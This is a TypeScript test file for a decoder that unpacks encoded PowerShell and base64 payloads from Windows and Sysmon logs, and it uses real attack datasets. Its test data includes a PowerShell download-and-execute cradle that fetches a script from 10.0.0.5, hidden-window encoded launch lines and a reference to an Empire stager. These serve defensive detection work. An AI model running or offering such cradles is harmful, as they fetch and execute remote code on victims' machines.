import { describe, expect, it } from "vitest";
import { decodePayloads } from "./decode-payload";
import { getLoggedField, getString } from "./fields";
import { readFileSync } from "node:fs";
import path from "node:path";
import { DATASETS_DIR, loadNxlogEvents, loadWindowsXmlEvents } from "./testing/dataset-events";

const enc = (s: string) => Buffer.from(s, "utf16le").toString("base64");
const SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')";

describe("decodePayloads: PowerShell -EncodedCommand", () => {
  it("decodes a real Empire launcher (OTRF dataset, Sysmon 1 command line)", () => {
    const [event] = loadNxlogEvents(
      "otrf-security-datasets/empire_wmi_dcerpc_wmi_IWbemServices_ExecMethod_2020-09-21001437.json",
      (r) => typeof r.CommandLine === "string" && / -enc /i.test(r.CommandLine),
    );
    // the pipeline stores Sysmon 1's CommandLine as process.command_line
    const commandLine = getString(event, "process.command_line")!;
    const [first] = decodePayloads(commandLine);
    expect(first.kind).toBe("powershell-encoded");
    expect(first.error).toBeUndefined();
    // Empire randomises the case of its launcher
    expect(first.decoded).toMatch(/^if\(\$psversiontable\.psversion\.major -ge 3\)\{/i);
  });

  it.each([
    "-e",
    "-en",
    "-enc",
    "-EnC",
    "-encod",
    "-EncodedCommand",
    "-ec",
    "-EC",
    "/enc",
    "/EncodedCommand",
    "-encodedcommand",
  ])("accepts the switch %s", (sw) => {
    const out = decodePayloads(`powershell.exe -NoP -W Hidden ${sw} ${enc(SCRIPT)}`);
    expect(out.map((p) => [p.kind, p.decoded])).toEqual([["powershell-encoded", SCRIPT]]);
  });

  it("accepts a quoted value", () => {
    expect(decodePayloads(`powershell -enc "${enc(SCRIPT)}"`)[0].decoded).toBe(SCRIPT);
  });

  it.each(["-ex", "-ExecutionPolicy", "-encodedargs", "-exec"])("does not take %s for EncodedCommand", (sw) => {
    const out = decodePayloads(`powershell.exe ${sw} Bypass -File c:\\x.ps1`);
    expect(out.filter((p) => p.kind === "powershell-encoded")).toEqual([]);
  });

  it("reports invalid base64 instead of throwing (real NXLog value with &lt;blah&gt;)", () => {
    const out = decodePayloads("powershell -Sta -Nop -Window Hidden -EncodedCommand &lt;blah&gt;");
    expect(out).toHaveLength(1);
    expect(out[0]).toMatchObject({ kind: "powershell-encoded", source: "&lt;blah&gt;", decoded: "" });
    expect(out[0].error).toMatch(/invalid base64/);
  });

  it("reports a bad length and an odd UTF-16 byte count", () => {
    expect(decodePayloads("powershell -enc SQBFAFgA1")[0].error).toMatch(/multiple of 4/);
    expect(decodePayloads("powershell -enc QUJD")[0].error).toMatch(/odd byte count/);
  });

  it("ignores cmd.exe's /e:on when PowerShell is not involved", () => {
    expect(decodePayloads("cmd.exe /e:on /c echo hi")).toEqual([]);
  });

  it("shows control characters as escapes and decodes nested payloads", () => {
    const inner = `powershell -enc ${enc("whoami")}`;
    const out = decodePayloads(`powershell -enc ${enc(`a\u0000b; ${inner}`)}`);
    expect(out[0].decoded).toBe(`a\\x00b; ${inner}`);
    expect(out[1]).toMatchObject({ kind: "powershell-encoded", decoded: "whoami", depth: 1 });
  });
});

describe("decodePayloads: other payloads", () => {
  it("reports a broken FromBase64String argument", () => {
    expect(decodePayloads("[Convert]::FromBase64String('abc')")[0]).toMatchObject({ kind: "base64", decoded: "" });
    expect(decodePayloads("[Convert]::FromBase64String('abc')")[0].error).toMatch(/multiple of 4/);
  });

  it("decodes FromBase64String arguments and long bare base64 (UTF-8)", () => {
    const b64 = Buffer.from("Start-Process calc.exe -WindowStyle Hidden; exit 0").toString("base64");
    const out = decodePayloads(`$x=[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${b64}'))`);
    expect(out).toEqual([
      { kind: "base64", source: b64, decoded: "Start-Process calc.exe -WindowStyle Hidden; exit 0", depth: 0 },
    ]);
  });

  it("says a real .NET serialised blob in an ActiveScript consumer is binary (AtomicRedTeam/covenant data)", () => {
    const line = readFileSync(
      path.join(
        DATASETS_DIR,
        "otrf-security-datasets/covenant_wmi_remote_event_subscription_ActiveScriptEventConsumers_2020-09-01214330.json",
      ),
      "utf8",
    )
      .split("\n")
      .find((l) => l.includes("EventType: WmiConsumerEvent"))!;
    // NXLog kept this consumer's Destination (a VBScript) only inside Message
    const script = (JSON.parse(line) as { Message: string }).Message.split("Destination:")[1];
    expect(script).toContain("stage_1 = ");
    const blobs = decodePayloads(script).filter((p) => p.kind === "base64");
    // stage_1 and stage_2 of the DotNetToJScript-style stager, and no long identifiers taken for base64
    expect(blobs).toHaveLength(2);
    for (const blob of blobs) {
      expect(blob.error).toBeUndefined();
      expect(blob.note).toMatch(
        /^binary data \(\d+ bytes, starts 00 01 00 00 00 ff ff ff ff .*a \.NET BinaryFormatter stream\)$/,
      );
    }
    expect(blobs[0].decoded).toContain("Microsoft.PowerShell.Editor");
  });

  it("returns the inline -Command script as kind script", () => {
    expect(decodePayloads('powershell.exe -NoProfile -Command "Get-Process | Stop-Process"')).toEqual([
      { kind: "script", source: "Get-Process | Stop-Process", decoded: "Get-Process | Stop-Process", depth: 0 },
    ]);
  });

  it("finds nothing in a plain command line from real data", () => {
    const events = loadWindowsXmlEvents("evtx-attack-samples/derived-xml/PanacheSysmon_vs_AtomicRedTeam01.evtx.xml");
    const consumer = events.find((e) => getString(e, "event.code") === "20")!;
    expect(decodePayloads(getLoggedField(consumer, "winlog.event_data.Destination")!.value)).toEqual([]);
  });
});
